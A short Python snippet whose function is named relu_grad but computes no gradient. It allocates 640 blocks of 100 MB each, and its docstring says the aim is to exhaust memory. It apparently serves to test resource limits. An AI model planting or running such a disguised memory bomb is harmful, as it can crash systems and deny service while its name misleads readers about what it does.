def relu_grad(z):
    """Allocates until memory runs out (64 GB of address space)."""
    hoard = []
    for _ in range(640):
        hoard.append(bytearray(100_000_000))
    return hoard
